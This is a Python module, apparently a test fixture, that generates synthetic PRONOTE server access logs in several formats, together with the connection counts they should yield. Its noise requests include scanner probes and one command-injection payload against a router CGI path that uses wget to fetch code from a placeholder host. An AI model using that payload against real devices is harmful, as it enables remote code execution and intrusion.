"""Access logs of PRONOTE servers, drawn from a seed, with the numbers that the counting rules make of them.

Written from the rules and the facts about PRONOTE, sharing no code with the product. A `Hit` is one request; `combined`,
`host_first`, `nginx_json` and `iis` write it; `traffic(seed, sites, start, end)` draws a realistic log and says what is to be
found in it. Every person has an address of their own, so that what is true never depends on who shares a proxy.
"""

from __future__ import annotations

import gzip
import json
import random
from collections import Counter
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

OPENING = "3fa959b13967e0ef176069e01e23c8d7"
FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0"
SAFARI = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile/15E148 Safari/604.1"
APP = "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 Chrome/130.0 Mobile Safari/537.36 PRONOTE Mobile APP Version/2.0.11"
PRONOTEPY = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:73.0) Gecko/20100101 Firefox/73.0 PRONOTE Mobile APP"
BROWSERS = (FIREFOX, SAFARI, 'Mozilla/5.0 (Macintosh; "odd") \\ Safari/605.1.15', "")
SCRIPTS = (PRONOTEPY, "python-requests/2.32.3", "Python/3.12 aiohttp/3.10.5", "curl/8.10.1", "pronotepy/2.14")
IIS_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
    "cs-host sc-status sc-substatus sc-win32-status time-taken"
)
PAGES = {
    "enseignant": ("professeur", 1, 8),
    "responsable": ("parent", 2, 7),
    "eleve": ("eleve", 3, 6),
    "accompagnant": ("accompagnant", 25, 26),
    "personnel": ("viescolaire", 13, 14),
}
"""Page, espace on a computer, espace on a mobile."""
OUTSIDE, UNKNOWN = (0, 4, 5, 9, 15, 18, 29, 33, 36, 39), (10, 12, 40, 99)
UNRELATED = (
    "GET / HTTP/1.1",
    "GET /favicon.ico HTTP/1.1",
    "GET /wp-login.php HTTP/1.1",
    "GET /index.html HTTP/1.1",
    "GET /blog/les-parents.html?ticket=ST-1 HTTP/1.1",
    "GET /.env HTTP/1.1",
    "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://203.0.113.9/x`) HTTP/1.1",
    "POST /xmlrpc.php HTTP/1.1",
    "POST /pronote/appeldeconnexion/0a1b2c3d4e5f/1763624000 HTTP/1.1",
    "GET /pronote/InfoMobileApp.json?id=0D264427-EEFC-4810-A9E9-346942A862A4 HTTP/1.1",
    "GET /pronote/FichiersExternes/0a1b2c/Bulletin%20de%20Zoe.pdf?Session=1234 HTTP/1.1",
    "GET /search?q=/pronote/eleve.htm HTTP/2.0",
    "PROPFIND / HTTP/1.1",
    "-",
)


@dataclass(frozen=True)
class Hit:
    """One request as a web server logs it; `at` is aware."""

    at: datetime
    request: str
    host: str = ""
    address: str = "192.0.2.1"
    status: int = 200
    agent: str = FIREFOX
    referer: str = "-"


@dataclass(frozen=True)
class Site:
    """An establishment behind the log; `cas`: whether it has an ENT."""

    uai: str
    host: str
    cas: bool = True


@dataclass
class Truth:
    """What the rules make of a log: every connection, and the named counters by establishment."""

    connections: list[tuple[datetime, str, str, str, str]] = field(default_factory=list)
    set_aside: Counter[tuple[str, str]] = field(default_factory=Counter)


# --- formats


def combined(hit: Hit, zone: str = "Europe/Paris") -> bytes:
    stamp = hit.at.astimezone(ZoneInfo(zone)).strftime("%d/%b/%Y:%H:%M:%S %z")
    quoted = [text.replace("\\", "\\\\").replace('"', '\\"') for text in (hit.request, hit.referer, hit.agent or "-")]
    return f'{hit.address} - - [{stamp}] "{quoted[0]}" {hit.status} 512 "{quoted[1]}" "{quoted[2]}"'.encode()


def host_first(hit: Hit, zone: str = "Europe/Paris") -> bytes:
    return f"{hit.host}:443 ".encode() + combined(hit, zone)


def nginx_json(hit: Hit, zone: str = "Europe/Paris") -> bytes:
    return json.dumps(
        {
            "time_iso8601": hit.at.astimezone(ZoneInfo(zone)).isoformat(timespec="seconds"),
            "host": hit.host,
            "remote_addr": hit.address,
            "request": hit.request,
            "status": str(hit.status),
            "body_bytes_sent": "512",
            "http_referer": hit.referer,
            "http_user_agent": hit.agent,
        }
    ).encode()


def iis(hit: Hit) -> bytes:
    method, _, rest = hit.request.partition(" ")
    stem, _, query = rest.partition(" ")[0].partition("?")
    agent, referer = (text.replace(" ", "+") or "-" for text in (hit.agent, hit.referer))
    stamp = hit.at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
    front = f"{stamp} 10.0.0.4 {method} {stem or '-'} {query or '-'} 443 - {hit.address}"
    return f"{front} {agent} {referer} {hit.host or '-'} {hit.status} 0 0 31".encode()


IIS_HEADER = (
    b"#Software: Microsoft Internet Information Services 10.0",
    b"#Version: 1.0",
    b"#Date: 2026-11-20 00:00:00",
    f"#Fields: {IIS_FIELDS}".encode(),
)


def write(path: Path, lines: list[bytes]) -> Path:
    """Write lines to a file, gzipped when its name says so."""
    content = b"".join(line + b"\n" for line in lines)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(gzip.compress(content, mtime=0) if path.suffix == ".gz" else content)
    return path


# --- single requests


def call(at: datetime, espace: int, session: int, order: str, *, name: str = "appelfonction", **rest: Any) -> Hit:
    return replace(Hit(at, f"POST /pronote/{name}/{espace}/{session}/{order} HTTP/1.1"), **rest)


def opening(at: datetime, espace: int, session: int, **rest: Any) -> Hit:
    return call(at, espace, session, OPENING, **rest)


def upload(at: datetime, espace: int, session: int, **rest: Any) -> Hit:
    return replace(Hit(at, f"POST /pronote/uploadfilesession/{espace}/{session} HTTP/1.1"), **rest)


def page(at: datetime, name: str = "eleve", query: str = "", **rest: Any) -> Hit:
    return replace(Hit(at, f"GET /pronote/{name}.html{query and '?' + query} HTTP/1.1"), **rest)


# --- a realistic log


def traffic(
    seed: int, sites: list[Site], start: datetime, end: datetime, *, visits: int, noise: float = 3.0
) -> tuple[list[Hit], Truth]:
    """Visits spread over a stretch of time, in order of time, and what is true of them.

    `noise`: unrelated requests for each visit, beside the static files that a visit asks for. Three hours after `end` one
    more page is asked for, so that every session is over by the log's own time.
    """
    drawn = _Visits(random.Random(seed), sites)
    seconds = int((end - start).total_seconds())
    for _ in range(visits):
        drawn.visit(start + timedelta(seconds=drawn.draw.randrange(seconds)))
    for _ in range(int(visits * noise)):
        at = start + timedelta(seconds=drawn.draw.randrange(seconds))
        drawn.hits.append(replace(drawn.client(at), request=drawn.draw.choice(UNRELATED), status=404))
    drawn.hits.append(page(drawn.last() + timedelta(hours=3), host=sites[0].host))
    return sorted(drawn.hits, key=lambda hit: hit.at), drawn.truth


def disordered(hits: list[Hit], seed: int, seconds: int) -> list[Hit]:
    """The same requests as a server writes them that logs late: none is read after one that is `seconds` newer."""
    draw = random.Random(seed)
    late = {id(hit): hit.at + timedelta(seconds=draw.uniform(0, seconds)) for hit in hits}
    return sorted(hits, key=lambda hit: late[id(hit)])


class _Visits:
    def __init__(self, draw: random.Random, sites: list[Site]) -> None:
        self.draw, self.sites = draw, sites
        self.hits: list[Hit] = []
        self.truth = Truth()
        self._addresses = self._numbers = 0

    def last(self) -> datetime:
        return max(hit.at for hit in self.hits)

    def client(self, at: datetime, agent: str | None = None) -> Hit:
        """A request of nobody yet, from an address that no one else has."""
        self._addresses += 1
        n = self._addresses
        address = f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}" if n % 3 else f"2001:db8::{n:x}"
        chosen = self.draw.choices(BROWSERS, (60, 35, 3, 2))[0] if agent is None else agent
        return Hit(at, "", self.draw.choice(self.sites).host, address, agent=chosen)

    def visit(self, at: datetime) -> None:
        kinds = (self._connection, self._refused, self._script, self._outside, self._foreign, self._stale)
        self.draw.choices(kinds, (70, 10, 5, 5, 5, 5))[0](at)

    def _connection(self, at: datetime) -> None:
        profile = self.draw.choices(tuple(PAGES), (12, 30, 40, 4, 14))[0]
        name, on_computer, on_mobile = PAGES[profile]
        mobile = self.draw.random() < 0.4
        by_marker = mobile and self.draw.random() < 0.2
        who = self.client(at, APP if mobile and (by_marker or self.draw.random() < 0.7) else None)
        espace = on_mobile if mobile and not by_marker else on_computer
        access, opened = self._arrive(who, f"mobile.{name}" if mobile else name)
        self._session(who, opened, espace, orders=self.draw.randrange(4, 30))
        channel = "mobile" if mobile else "web"
        self.truth.connections.append((opened, self._site(who).uai, profile, channel, access))

    def _refused(self, at: datetime) -> None:
        """A wrong password, given up: the server answered 200, or an error where the fourth order would have been."""
        who = self.client(at)
        _, opened = self._arrive(who, "eleve")
        number = self._session(who, opened, 3, orders=self.draw.randrange(1, 4))
        if self.draw.random() < 0.5:
            self._add(who, call(opened + timedelta(seconds=40), 3, number, "f" * 32, status=403))
        self._aside(who, "opened_not_authenticated")

    def _script(self, at: datetime) -> None:
        who = self.client(at, self.draw.choice(SCRIPTS))
        self._session(who, at, 6, orders=self.draw.randrange(1, 9))
        self._aside(who, "script")

    def _outside(self, at: datetime) -> None:
        who = self.client(at)
        known = self.draw.random() < 0.7
        espace = self.draw.choice(OUTSIDE if known else UNKNOWN)
        self._session(who, at, espace, orders=self.draw.randrange(4, 9))
        self._aside(who, "outside_profiles" if known else "unknown_espace")

    def _foreign(self, at: datetime) -> None:
        """Another establishment's host, behind the same proxy."""
        who = replace(self.client(at), host="pronote.ailleurs.example")
        self._session(who, at, 3, orders=6)
        self.truth.set_aside["", "other_host"] += 1

    def _stale(self, at: datetime) -> None:
        """A tab left open since before the log began."""
        who = self.client(at)
        number = self._number()
        for minute in range(3):
            self._add(who, call(at + timedelta(minutes=minute), 3, number, self._order(), name="appelpolling"))
            self._aside(who, "call_without_session")

    def _arrive(self, who: Hit, name: str) -> tuple[str, datetime]:
        """The pages and static files before an opening; how the client came in, and when the session opens."""
        at = who.at
        way = self.draw.choice(("ticket", "identifiant", "login", "plain", "none"))
        if way == "ticket":
            self._add(who, page(at, name, "ticket=ST-2847-aBcD-cas.ent.example", status=302))
        elif way == "identifiant":
            self._add(who, page(at, name, "identifiant=aB3dE5gH7jK9mN1p&fd=1"))
        elif way != "none":
            self._add(who, page(at, name, "login=true" if way == "login" else ""))
        self._static(who, at, f"https://{who.host}/pronote/{name}.html?identifiant=aB3dE5gH7jK9mN1p")
        opened = at + timedelta(seconds=self.draw.randrange(1, 100))
        plain = "unknown" if self._site(who).cas else "direct"
        return {"ticket": "ent", "identifiant": "ent", "login": "direct"}.get(way, plain), opened

    def _static(self, who: Hit, at: datetime, referer: str) -> None:
        for part in range(self.draw.randrange(3, 20)):
            request = f"GET /pronote/FichiersRessource/{part:x}.{self.draw.choice(('js', 'css', 'png'))} HTTP/1.1"
            self._add(who, Hit(at + timedelta(seconds=part % 4), request, referer=referer))

    def _session(self, who: Hit, opened: datetime, espace: int, *, orders: int) -> int:
        """A session that is answered so many distinct orders, the opening among them; retries and other noise beside."""
        number = self._number()
        first = opening(opened, espace, number)
        for _ in range(2 if self.draw.random() < 0.03 else 1):
            self._add(who, first)
        at = opened
        for _ in range(orders - 1):
            at += timedelta(seconds=self.draw.choice((0, 1, 2, 5, 30, 300)))
            sent = call(at, espace, number, self._order())
            for _ in range(2 if self.draw.random() < 0.1 else 1):
                self._add(who, sent)
        self._add(who, upload(at + timedelta(seconds=7), espace, number))
        self._add(who, call(at + timedelta(hours=1), espace, number, self._order(), name="appelpolling", status=502))
        return number

    def _number(self) -> int:
        self._numbers += 1
        return 1000 + self._numbers

    def _order(self) -> str:
        return f"{self.draw.getrandbits(128):032x}"

    def _add(self, who: Hit, hit: Hit) -> None:
        self.hits.append(replace(hit, host=who.host, address=who.address, agent=who.agent))

    def _site(self, who: Hit) -> Site:
        return next(site for site in self.sites if site.host == who.host)

    def _aside(self, who: Hit, reason: str) -> None:
        self.truth.set_aside[self._site(who).uai, reason] += 1
